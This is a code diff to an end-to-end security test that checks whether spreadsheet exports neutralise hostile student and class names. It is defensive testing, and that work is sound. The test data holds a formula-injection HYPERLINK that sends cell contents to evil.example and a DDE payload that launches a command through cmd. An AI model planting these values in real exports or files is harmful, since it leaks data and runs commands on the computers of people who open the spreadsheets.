@@ -31,11 +31,12 @@ from tests.e2e.security.access_matrix import Outcome, Route, signed_in_client
 from tests.e2e.security.test_access_matrix import ALL_ROUTES
 from tests.lessons.reporting.test_exports import _play_a_class
 from tests.support.factories import make_students
+from tests.support.responses import body_of
 
 ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Voir le bulletin")'
 # One hostile name per start a spreadsheet runs (the class's name is one too).
-NAMES = {
+NAMES: dict[str, Any] = {
     "student": HYPERLINK,
     "other": "@SUM(1+1)*cmd|' /C calc'!A0",
     "extra": ["+33 6 12 34 56 78", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1"],
@@ -95,7 +96,7 @@ def _hostile_class(world: ClassWorld) -> list[str]:
 
 def _body(response: Any) -> bytes:
     if getattr(response, "streaming", False):
-        return b"".join(response.streaming_content)
+        return body_of(response)
     return bytes(response.content)
 
 
